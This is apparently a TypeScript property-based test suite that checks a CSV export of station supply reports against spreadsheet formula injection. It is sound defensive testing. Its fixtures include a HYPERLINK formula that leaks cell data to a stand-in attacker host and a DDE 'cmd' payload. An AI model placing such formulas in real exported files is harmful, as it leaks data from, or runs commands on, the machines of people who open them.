import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv, type CsvCell } from '../../worker/domain/csv.ts';
import { SuppliesReport } from '../../worker/schemas/dashboard.ts';
import { suppliesCsv } from '../../web/lib/supplies-csv.ts';

/** What a spreadsheet would read: the cells of each record, parsed by an independent CSV reader. */
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, '').replace(/\r?\n$/, '')).data;
const FORMULA_START = /^[=+\-@\t\r]/;
const LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';

describe('CSV exports are inert in a spreadsheet', () => {
  it('exports a station named =HYPERLINK(...) as text, and leaves numbers (even negative) as numbers', () => {
    const report = SuppliesReport.parse({
      from: '2026-11-01',
      to: '2026-11-30',
      tz: 'Asia/Shanghai',
      group: 'station',
      period: 'month',
      rows: [
        {
          period: '2026-11',
          place: 'st-1',
          place_name: LINK,
          item: 'water',
          distributed: 12,
          dispensed: 10,
          inferred_out: 2,
          restocked: 20,
          inferred_in: -3,
          lent: 0,
          returned: 0,
        },
        {
          period: '2026-11',
          place: 'st-2',
          place_name: '@SUM(1+1)*cmd|"/C calc"!A0',
          item: 'water',
          distributed: 1,
          dispensed: 1,
          inferred_out: 0,
          restocked: 0,
          inferred_in: 0,
          lent: 0,
          returned: 0,
        },
      ],
    });
    const csv = suppliesCsv(report, (item) => (item === 'water' ? '+饮用水' : item));
    expect(csv.startsWith('\ufeff')).toBe(true);
    const [head, first, second] = cellsOf(csv);
    expect(head).toEqual(
      'period,place,place_name,item,item_name,distributed,dispensed,inferred_out,restocked,inferred_in,lent,returned'.split(','),
    );
    expect(first![2]).toBe(`'${LINK}`);
    expect(first![4]).toBe(`'+饮用水`);
    expect(first!.slice(5)).toEqual(['12', '10', '2', '20', '-3', '0', '0']);
    expect(second![2]).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    // The neutralised cells are quoted, so the leading quote is data and not a CSV artefact.
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click for details"")"`);
  });

  it('reads back every cell as written, text that could start a formula prefixed with a quote', () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', 'a', '中', ' ', "'") }),
      fc.integer({ min: -1e6, max: 1e6 }),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 8 }), (rows: CsvCell[][]) => {
        const parsed = cellsOf(toCsv(['a', 'b'], rows));
        const back = parsed.slice(1);
        const expected = rows.map((r) =>
          r.map((v) => (v === null ? '' : typeof v === 'number' ? String(v) : FORMULA_START.test(v) ? `'${v}` : v)),
        );
        expect(back).toEqual(expected);
      }),
    );
  });
});
